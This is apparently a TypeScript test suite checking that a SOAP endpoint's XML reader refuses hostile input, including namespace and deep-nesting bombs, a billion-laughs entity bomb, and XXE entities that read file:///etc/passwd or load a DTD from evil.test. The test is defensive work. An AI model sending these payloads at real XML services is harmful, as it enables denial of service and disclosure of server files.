/**
 * Hostile XML at the SOAP endpoint, at its default body limit (1 MiB): the namespace bomb that
 * exhausted the heap (P declarations on the root, P children declaring one more each: O(P²) with a
 * namespace map copied per element), a deep-nesting bomb, an entity bomb and an external entity.
 * Each answers a fault naming what was refused, changes no job, keeps the heap flat, and the
 * endpoint answers the next ordinary request.
 */
import { Effect } from "effect"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { Phase, Uws, Worker } from "@uws-kit/core"
import type { Job } from "@uws-kit/core/Job"
import { SoapAdapter } from "@uws-kit/adapter-soap"
import { BASE, envelope, envNs, read, request, TNS } from "./helpers.js"

const admin = { id: null, admin: true } as const
const LIMIT = SoapAdapter.defaultMaxEnvelopeBytes

let started: Uws.Started
let soap: SoapAdapter.SoapAdapter
let jobId: string

beforeAll(async () => {
  // The XML reader is under test here, not the policy's size limits: an honest 1 MiB envelope
  // carries one large parameter value.
  started = await Uws.start({
    worker: Worker.make({ name: "idle", run: () => Effect.never }),
    policy: { maxParameterValueBytes: null, maxParameterBytesPerJob: null }
  })
  soap = SoapAdapter.makeSoapAdapter({ service: started.service })
  jobId = (await Effect.runPromise(started.service.create(admin, { run: false, parameters: [{ name: "Q", value: "x" }] }))).jobId
})

afterAll(() => started.close())

const jobs = async (): Promise<ReadonlyArray<Job>> => (await Effect.runPromise(started.service.list(admin, { phases: Phase.all }))).jobs

const bytes = (s: string) => Buffer.byteLength(s, "utf8")

/**
 * The namespace bomb: `P` declarations on the Envelope, `P` children of the operation each
 * declaring one more, with `P` as large as fits under `limit` bytes. `spread` keeps every element
 * under the per-element limit (`perElement` declarations on the root), so only the per-document
 * limit can stop it.
 */
const namespaceBomb = (limit: number, perElement = Number.POSITIVE_INFINITY): { readonly xml: string; readonly p: number } => {
  const make = (p: number) => {
    const onRoot = Math.min(p, perElement)
    const root: Array<string> = []
    for (let i = 0; i < onRoot; i++) root.push(` xmlns:a${i}="u:${i}"`)
    const kids: Array<string> = []
    for (let i = 0; i < p; i++) kids.push(`<a${i % onRoot}:x xmlns:b${i}="v:${i}"/>`)
    return (
      `<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="${envNs("1.1")}" xmlns:u="${TNS}"${root.join("")}>` +
      `<s:Body><u:getJobs>${kids.join("")}</u:getJobs></s:Body></s:Envelope>`
    )
  }
  // Grow, then step back to the largest P under the limit.
  let p = 1024
  while (bytes(make(p * 2)) < limit) p *= 2
  let step = p
  while (step >= 1) {
    if (bytes(make(p + step)) < limit) p += step
    step = Math.floor(step / 2)
  }
  return { xml: make(p), p }
}

const deepBomb = (limit: number) => {
  const open = `<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="${envNs("1.1")}" xmlns:u="${TNS}"><s:Body><u:getJobs>`
  const close = `</u:getJobs></s:Body></s:Envelope>`
  const n = Math.floor((limit - bytes(open) - bytes(close) - 1) / 7)
  return open + "<a>".repeat(n) + "</a>".repeat(n) + close
}

const gc = (globalThis as { gc?: () => void }).gc
/** With `--expose-gc` the heap is measured after collection; without, the bound has to absorb garbage. */
const HEAP_BOUND = gc === undefined ? 128 * 1024 * 1024 : 32 * 1024 * 1024

/** Sends a body and reports the fault and how much the heap grew. */
const send = async (xml: string) => {
  gc?.()
  const before = process.memoryUsage().heapUsed
  const reply = await read(await soap.handler(request(xml, "getJobs")))
  gc?.()
  const grown = process.memoryUsage().heapUsed - before
  return { reply, grown }
}

const stillServes = async () => {
  const reply = await read(await soap.handler(request(envelope("getPhase", "", { resourceId: jobId }), "getPhase")))
  expect(reply.fault).toBeUndefined()
  expect(reply.status).toBe(200)
  expect(reply.body?.local).toBe("getPhaseResponse")
}

describe("hostile XML at the SOAP endpoint", () => {
  it("the namespace bomb just under the body limit gets a Client fault naming the limit, with a flat heap", async () => {
    const { xml, p } = namespaceBomb(LIMIT)
    expect(bytes(xml)).toBeLessThan(LIMIT)
    expect(p).toBeGreaterThan(16_000) // 16,000 was enough to exhaust the heap before
    const before = await jobs()
    const { reply, grown } = await send(xml)
    expect(reply.status).toBe(500) // SOAP 1.1: every fault is a 500
    expect(reply.fault?.code).toBe("soap:Client")
    expect(reply.fault?.tag).toBe("MalformedEnvelope")
    expect(reply.fault?.reason).toContain("maxNamespaceDeclarations")
    expect(grown).toBeLessThan(HEAP_BOUND)
    expect(await jobs()).toEqual(before)
    await stillServes()
  })

  it("the same bomb spread so that no element declares too many is stopped by the per-document limit", async () => {
    const { xml } = namespaceBomb(LIMIT, 16)
    const before = await jobs()
    const { reply, grown } = await send(xml)
    expect(reply.fault?.tag).toBe("MalformedEnvelope")
    expect(reply.fault?.reason).toContain("maxDocumentNamespaceDeclarations")
    expect(grown).toBeLessThan(HEAP_BOUND)
    expect(await jobs()).toEqual(before)
    await stillServes()
  })

  it("a deep-nesting bomb just under the body limit gets a fault naming maxDepth", async () => {
    const xml = deepBomb(LIMIT)
    expect(bytes(xml)).toBeLessThan(LIMIT)
    const { reply, grown } = await send(xml)
    expect(reply.fault?.tag).toBe("MalformedEnvelope")
    expect(reply.fault?.reason).toContain("maxDepth")
    expect(grown).toBeLessThan(HEAP_BOUND)
    await stillServes()
  })

  it("SOAP 1.2: the bomb is a Sender fault, HTTP 400", async () => {
    const { xml } = namespaceBomb(LIMIT)
    const reply = await read(await soap.handler(request(xml.replace(envNs("1.1"), envNs("1.2")), "getJobs", { version: "1.2" })))
    expect(reply.status).toBe(400)
    expect(reply.fault?.code).toBe("soap:Sender")
    expect(reply.fault?.reason).toContain("maxNamespaceDeclarations")
  })

  it("an entity bomb and an external entity get ForbiddenDeclaration faults and change nothing", async () => {
    const laughs =
      `<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY a "aaaaaaaaaa">` +
      Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join("") +
      `]>`
    const body = (ref: string) =>
      `<s:Envelope xmlns:s="${envNs("1.1")}" xmlns:u="${TNS}"><s:Header><u:ResourceIdentifier>${jobId}</u:ResourceIdentifier></s:Header>` +
      `<s:Body><u:setTerminationTime><u:terminationTime>${ref}</u:terminationTime></u:setTerminationTime></s:Body></s:Envelope>`
    const cases = [
      ["billion laughs", `${laughs}${body("&j;")}`],
      ["external entity", `<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>${body("&x;")}`],
      ["parameter entity", `<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>${body("2030-01-01T00:00:00Z")}`],
      ["internal entity", `<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY d "2030-01-01T00:00:00Z">]>${body("&d;")}`]
    ] as const
    const before = await jobs()
    for (const [what, xml] of cases) {
      const { reply, grown } = await send(xml)
      expect(reply.fault?.tag, what).toBe("ForbiddenDeclaration")
      expect(reply.fault?.code, what).toBe("soap:Client")
      expect(reply.fault?.reason, what).toContain("DOCTYPE")
      expect(grown, what).toBeLessThan(HEAP_BOUND)
    }
    expect(await jobs()).toEqual(before)
    await stillServes()
  })

  it("an ordinary envelope of the same size is read (the limits do not refuse honest documents)", async () => {
    const pad = "x".repeat(LIMIT - 2048)
    const xml = envelope("createJob", `<u:parameter id="BIG">${pad}</u:parameter>`)
    expect(bytes(xml)).toBeLessThan(LIMIT)
    const reply = await read(await soap.handler(request(xml, "createJob", { url: BASE })))
    expect(reply.fault).toBeUndefined()
    expect(reply.body?.local).toBe("createJobResponse")
  })

  it("a host can tighten the reader's limits (xmlLimits); the fault names the limit it set", async () => {
    const strict = SoapAdapter.makeSoapAdapter({ service: started.service, xmlLimits: { maxDepth: 5 } })
    const xml = envelope("getJobs", "<u:phase><x>PENDING</x></u:phase>") // Envelope, Body, getJobs, phase, x: depth 5
    expect((await read(await strict.handler(request(xml, "getJobs")))).fault?.reason).not.toContain("maxDepth")
    const deeper = envelope("getJobs", "<u:phase><x><y>PENDING</y></x></u:phase>")
    const reply = await read(await strict.handler(request(deeper, "getJobs")))
    expect(reply.fault?.tag).toBe("MalformedEnvelope")
    expect(reply.fault?.reason).toContain("maxDepth")
    await strict.dispose()
  })
})
